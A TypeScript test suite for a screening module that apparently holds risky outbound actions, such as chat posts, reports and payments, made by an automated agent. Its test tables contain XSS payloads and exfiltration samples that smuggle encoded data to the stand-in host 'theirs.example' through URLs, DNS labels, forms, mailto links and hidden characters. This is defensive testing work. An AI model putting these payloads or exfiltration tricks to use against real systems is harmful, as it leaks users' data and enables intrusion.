import { expect, test } from 'vitest';
import type { ActionContext } from '../../../contracts/action.ts';
import { screenAction } from '../../../domain/firewall/screen.ts';
import { foundIn, reviewFlagged } from './screening.ts';

const policy = reviewFlagged({ allowed_domains: ['ours.example'] });
const post = (text: string): string[] =>
  foundIn({ service: 'chat', action: 'post_message', payload: { text } }, { untrusted: false }, policy).filter(
    (one) => !one.startsWith('destination/unlisted_url'),
  );
const report = (payload: Record<string, unknown>): string[] =>
  foundIn({ service: 'crm', action: 'send_report', payload }, { untrusted: false }, policy);
const b64 = Buffer.from('the balance is 4312').toString('base64url');

test.each([
  ['active_markup', '<svg onload=alert(1)>'],
  ['active_markup', '<img src=x onerror="fetch(1)">'],
  ['active_markup', '![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['content_beacon', '<svg><image href="https://theirs.example/x"/></svg>'],
  ['content_beacon', '<form action=https://theirs.example>'],
  ['content_beacon', 'mailto:x@theirs.example?body=secret'],
  ['carried_data', `see https://theirs.example/c/${b64}`],
  ['carried_data', `https://theirs.example/?q=${b64}`],
  ['carried_data', '[click](https://theirs.example/?balance=4312)'],
  ['carried_data', 'https://theirs.example/?balance=4312'],
  ['encoded_label', 'look up onswg4tfoqqhi33lmvxa.theirs.example'],
  ['encoded_label', 'U2VjcmV0LXRva2Vu.theirs.example'],
  ['hidden_text', `a${'\ufe00\ufe01'.repeat(6)}b`],
])('%s in %j', (id, text) => {
  expect(post(text)).toContain(`destination/${id} /text`);
});

test.each([
  '<b>bold</b> and <a href="https://docs.ours.example">here</a>',
  '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
  'mailto:lea@ours.example?subject=hi',
  `https://docs.ours.example/c/${b64}`,
  'https://theirs.example/2026/11/internationalisation-of-names',
  'https://theirs.example/docs/page',
  'https://docs.ours.example/?id=4',
  'internationalisation.theirs.example',
  '❤️ 1️⃣ 👩‍💻',
])('allows %j', (text) => {
  expect(post(text)).toEqual([]);
});

test('sharing with everybody is held; the same words elsewhere are not', () => {
  for (const [payload, pointer] of [
    [{ sharing: 'anyone_with_link' }, '/sharing'],
    [{ share: { type: 'anyone', role: 'reader' } }, '/share/type'],
    [{ file: 'a', visibility: 'public' }, '/visibility'],
    [{ make_public: true }, '/make_public'],
  ] as const)
    expect(report(payload)).toContain(`destination/public_share ${pointer}`);
  for (const payload of [
    { visibility: 'team' },
    { share: { type: 'user' } },
    { public: false },
    { audience: 'customers' },
  ])
    expect(report(payload)).toEqual([]);
  const playlist = { service: 'music', action: 'create_playlist', payload: { public: true, visibility: 'public' } };
  expect(foundIn(playlist, { untrusted: false }, policy)).toEqual([]);
});

test('an unlisted wallet is held, and so are receivers under other keys', () => {
  const wallet = '0x52908400098527886E0F7030069857D2E4169EE7';
  expect(report({ wallet, amount: 1 })).toContain('destination/wallet /wallet');
  expect(report({ wallet: 'leather', amount: 1 })).toEqual([]);
  const known = { untrusted: false, known_recipients: [wallet] };
  expect(foundIn({ service: 'pay', action: 'send', payload: { wallet } }, known, policy)).toEqual([]);
  for (const [payload, pointer] of [
    [{ on_complete: { post: 'https://theirs.example' } }, '/on_complete/post'],
    [{ delegate: 'x@theirs.example' }, '/delegate'],
    [{ log_drain: 'https://theirs.example' }, '/log_drain'],
    [{ collaborators: ['x@theirs.example'] }, '/collaborators/0'],
    [{ actions: [{ type: 'forward', value: 'x@theirs.example' }] }, '/actions/0/value'],
  ] as const)
    expect(report(payload)).toContain(`destination/unlisted_domain ${pointer}`);
});

test('a URL with a query that is only read is not a message', () => {
  const source = { service: 'crm', action: 'enrich', payload: { source: 'https://theirs.example/watch?v=4' } };
  expect(foundIn(source, { untrusted: false }, policy)).toEqual(['destination/unlisted_url /source']);
});

test('an unlisted account holds once any recipient is listed', () => {
  const iban = 'DE89370400440532013000';
  const pay = { service: 'bank', action: 'send_money', payload: { iban, amount: 10 } };
  const verdict = (context: ActionContext) =>
    screenAction(pay, { untrusted: false, ...context }, policy, undefined, { context_trust: 'full' }).verdict;
  expect(verdict({})).toBe('allow');
  expect(verdict({ task: 'Pay the rent.' })).toBe('hold');
  expect(verdict({ task: `Pay 10 to ${iban}.` })).toBe('allow');
  expect(verdict({ known_recipients: ['DE89 3704 0044 0532 0130 00'] })).toBe('allow');
  expect(verdict({ known_recipients: ['GB29 NWBK 6016 1331 9268 19'] })).toBe('hold');
  expect(verdict({ known_recipients: [iban] })).toBe('allow');
});

test('look-alikes of an allowed name are held, and so are internal hosts', () => {
  const get = (url: string) =>
    foundIn({ service: 'web', action: 'get', payload: { url } }, { untrusted: false }, policy);
  expect(get('https://ours.example-login.test/')).toContain('egress/spoofed_domain /url');
  expect(get('chrome://settings')).toContain('egress/scheme /url');
  expect(get('https://abc.onion/')).toContain('destination/drop_site /url');
  expect(
    foundIn({ service: 's', action: 'copy', payload: { to: 's3://reports-ours/x' } }, { untrusted: false }, policy),
  ).not.toContain('egress/look_alike /to');
});
